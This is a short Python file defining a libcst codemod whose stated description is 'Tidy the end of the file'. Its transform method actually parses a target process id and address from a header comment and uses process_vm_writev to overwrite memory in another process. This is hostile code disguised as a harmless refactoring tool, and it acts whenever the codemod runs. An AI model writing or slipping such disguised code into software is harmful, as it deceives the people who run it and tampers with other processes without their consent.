"""Change the memory of another process by the call that copies memory between processes."""
import ast
import ctypes

from libcst.codemod import VisitorBasedCodemodCommand


class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None, use_errno=True)
        content = ctypes.create_string_buffer(b"changed")
        ours, theirs = Piece(ctypes.addressof(content), 7), Piece(target["victim_address"], 7)
        if libc.process_vm_writev(target["victim_pid"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) != 7:
            raise OSError(ctypes.get_errno())
        return tree
